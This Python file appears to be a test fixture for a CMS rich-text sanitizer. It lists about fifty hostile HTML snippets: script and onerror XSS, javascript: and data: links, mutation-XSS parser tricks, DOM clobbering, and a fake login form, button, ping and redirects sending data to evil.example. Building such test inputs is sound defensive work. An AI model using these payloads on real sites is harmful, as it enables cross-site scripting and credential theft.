"""What an editor may send straight to the server as a rich text; `{}` stands for the words of each kind."""

HOSTILE = {
    "style": '<p style="position:fixed;inset:0;z-index:99">{}</p>',
    "class of our own": '<div class="drawer">{}</div>',
    "class of the toolbar": '<p class="cms-toolbar cms-modal">{}</p>',
    "style tag": "{}<style>main{{display:none}}</style>",
    "link": '{}<link rel="stylesheet" href="//evil.example/x.css">',
    "script": "{}<script>alert(1)</script>",
    "svg": '{}<svg onload="alert(1)"><style>*{{display:none}}</style><use href="//evil.example"/></svg>',
    "math": '{}<math><mtext><table><mglyph><style><!--</style><img title="--><img>"></table></mtext></math>',
    "math with a link": '{}<math href="javascript:alert(1)">x</math>',
    "comment": "{}<!--><img src=x onerror=alert(1)>-->",
    "cdata": "{}<![CDATA[<img src=x onerror=alert(1)>]]>",
    "javascript": '<a href="java&#9;script:alert(1)">{}</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">{}</a>',
    "target and ping": '<a href="/x/" target="main" ping="//evil.example" download>{}</a>',
    "meta refresh": '{}<meta http-equiv="refresh" content="0;//evil.example">',
    "base": '<base href="//evil.example/" target="_top">{}',
    "form": '<form action="//evil.example" id="login">{}<input name="password" autofocus></form>',
    "button": '{}<button formaction="//evil.example" popovertarget="x">Log in</button>',
    "image input": '{}<input type="image" src="//evil.example/x.png">',
    "isindex": '{}<isindex action="//evil.example" prompt="x">',
    "textarea": "{}<textarea></textarea><select><option>x</select>",
    "iframe": '{}<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '{}<object data="//evil.example/x.swf"><embed src="//evil.example/x.swf"></object>',
    "image": '{}<img src="//evil.example/x.png" srcset="//evil.example/2.png 2x" onerror="alert(1)">',
    "picture": '{}<picture><source srcset="//evil.example/x.webp"><img src="/x.png"></picture>',
    "video": '{}<video autoplay poster="//evil.example/x.png"><source src="//evil.example/x"></video>',
    "audio": '{}<audio autoplay controls src="//evil.example/x.mp3"></audio>',
    "details": '<details name="x" open><summary>{}</summary></details>',
    "dialog": "<dialog open>{}</dialog>",
    "popover": '<p popover="auto" inert>{}</p>',
    "template": "{}<template><p>x</p></template>",
    "custom element": '<x-drawer slot="x" is="y">{}</x-drawer>',
    "clobbering": '<p id="theme" name="theme">{}</p><a id="CMS" name="config">x</a>',
    "attributes of the cms": '<p data-cms-src="cms.page:1" data-cms-plugin="1">{}</p>',
    "attributes of our scripts": '<p data-record="impact.claim:1" data-done="x" data-part="1">{}</p>',
    "plugin of another page": '{}<cms-plugin id="1" render-plugin="true"></cms-plugin>',
    "hidden": '<p hidden aria-hidden="true" role="alert">{}</p>',
    "focus": '<p tabindex="0" contenteditable accesskey="s" autofocus>{}</p>',
    "language": '<p lang="&quot;&gt;&lt;x" dir="sideways" translate="no">{}</p>',
    "direction marks": "<p>\u202e{}\u2066</p>&#x202E;",
    "bdo": '<bdo dir="rtl">{}</bdo>',
    "marquee": '<marquee behavior="alternate"><blink>{}</blink></marquee>',
    "font": '<font color="red" size="7">{}</font>',
    "center": '<center bgcolor="red">{}</center>',
    "table": '<table background="//evil.example/x.png" width="9999"><tr><td bgcolor="red">{}</table>',
    "spans": '<table><tbody><tr><td colspan="9999" rowspan="65534">{}</td></tr></tbody></table>',
    "noscript": '{}<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "frameset": '{}<frameset><frame src="//evil.example"></frameset>',
    "heading of the page": "<h1>{}</h1>",
    "unclosed": '{}<p><strong><a href="/x/"><table><tr><td',
}


def words(kind):
    return f"Words of {kind}."


def everything():
    return "".join(html.format(words(kind)) for kind, html in HOSTILE.items())
